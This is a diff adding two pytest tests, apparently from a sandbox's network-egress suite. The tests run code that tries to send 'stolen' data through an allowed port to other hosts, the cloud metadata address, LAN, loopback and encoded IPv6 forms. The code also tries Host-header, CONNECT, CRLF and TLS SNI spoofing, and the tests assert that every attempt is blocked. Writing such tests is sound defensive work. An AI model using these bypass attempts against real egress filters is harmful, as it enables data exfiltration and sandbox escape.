@@ -113,3 +113,53 @@ print('done')
 """
     result = narrow(code)
     assert result.out.endswith("done\n") and not online.net.requests, result
+
+
+# --- ports --------------------------------------------------------------------------------------------------------------
+
+def test_a_port_of_one_name_is_no_way_to_another(online):
+    """Through the listener for ok.example.org's ports: another name's address, another name inside, any address."""
+    code = """
+def send(where, data):
+    try: return talk(where, data, 1)[:60]
+    except OSError as e: return repr(e).encode()
+ok, other, evil = socket.gethostbyname('ok.example.org'), socket.gethostbyname('other.example.org'), '93.184.216.35'
+for port in (7777, 22, 8080, 8443):
+    for address in (other, evil, '10.0.0.5', '169.254.169.254', '127.0.0.1', '127.0.0.2', '::1', 'fd12::5',
+                    '::ffff:10.0.0.5', '64:ff9b::a00:5', '198.18.0.1', '198.18.0.77', '198.19.255.1', '0.0.0.0',
+                    '255.255.255.255', '224.0.0.1', '93.184.216.1'):
+        for data in (b'stolen', get('ok.example.org'), get('other.example.org:%d' % port)): send((address, port), data)
+for port in (8080, 8443, 7777):
+    for host in ('other.example.org', 'other.example.org:%d' % port, 'evil.example.org', '10.0.0.5', 'ok.example.org.x'):
+        send((ok, port), get(host, '/stolen'))
+        send((ok, port), get('ok.example.org', f'http://{host}/stolen'))
+        send((ok, port), b'\\r\\n' + get(host, '/stolen'))
+        send((ok, port), f'CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode() + get(host, '/stolen'))
+    for host in ('other.example.org', 'evil.example.org', 'deep.a.example.org', None):
+        try: s = tls(dial(ok, port), host); s.sendall(get('x', '/stolen')); drain(s)
+        except (OSError, ValueError): pass
+print('done')
+"""
+    rules = ["ok.example.org:7777", "ok.example.org:8080", "ok.example.org:8443", "other.example.org:22"]
+    result = online.python(code, allow=rules)
+    assert result.out == "done\n", result
+    ports = {7777, 8080, 8443}
+    assert {p for p in online.net.reached() if p != (6, "93.184.216.35", 22)} <= {(6, SITE4, p) for p in ports}
+    assert not online.net.requests and not online.net.host_hits, online.net.requests
+    assert not any(b"stolen" in kept for kept in online.net.echoed), "nothing of another name passed"
+    assert not any(b"other.example.org" in hello for hello in online.net.hellos)
+
+
+def test_a_port_rule_does_not_open_an_address_of_the_host_or_of_nobody(online):
+    """Names that lead to forbidden addresses, at a port that a rule names."""
+    places = {"own": "93.184.216.1", "meta": "169.254.169.254", "lan": "10.0.0.5", "lo": "127.0.0.1"}
+    online.net.names.update({f"{name}.example.org": [("A", address)] for name, address in places.items()})
+    code = """
+for name in ('own', 'meta', 'lan', 'lo'):
+    for port in (8123, 7777):
+        try: print(talk((socket.gethostbyname(name + '.example.org'), port), b'stolen', 2))
+        except OSError as e: print(repr(e))
+"""
+    result = online.python(code, allow=["*.example.org:8123", "*.example.org:7777"])
+    assert len(result.out.splitlines()) == 8 and "host service" not in result.out, result
+    assert not online.net.reached() and not online.net.host_hits and not online.net.echoed
